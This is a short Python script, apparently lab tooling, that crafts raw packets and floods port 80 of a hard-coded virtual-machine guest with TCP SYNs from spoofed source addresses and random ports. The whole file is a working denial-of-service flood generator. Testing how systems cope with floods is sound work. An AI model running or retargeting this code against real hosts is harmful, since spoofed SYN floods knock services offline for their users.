#!/usr/bin/env python3
"""Sends COUNT SYNs for port 80 of the guest from as many addresses and ports. Usage: syn_flood.py INTERFACE COUNT"""
import random
import socket
import struct
import sys

interface, count = sys.argv[1], int(sys.argv[2])
random.seed(11)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((interface, 0))
own = s.getsockname()[4]
target = bytes.fromhex("525400123456")


def total(data):
    value = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while value >> 16:
        value = (value & 0xffff) + (value >> 16)
    return 0xffff - value


for _ in range(count):
    # From beyond the gateway, so that the guest needs no neighbour for each.
    source = bytes((198, 18, random.randrange(256), random.randrange(1, 255)))
    addresses = source + bytes((10, 77, 0, 2))
    tcp = struct.pack("!HHIIBBHHHBBH", random.randrange(1024, 65536), 80, random.getrandbits(32), 0, 6 << 4, 2, 64240, 0, 0, 2, 4, 1460)
    tcp = tcp[:16] + struct.pack("!H", total(addresses + struct.pack("!HH", 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + addresses
    ip = ip[:10] + struct.pack("!H", total(ip)) + ip[12:]
    try:
        s.send(target + own + b"\x08\x00" + ip + tcp)
    except OSError:  # the queue to the guest is full: a flood that is dropped before it
        pass
print(f"{count} SYNs sent")
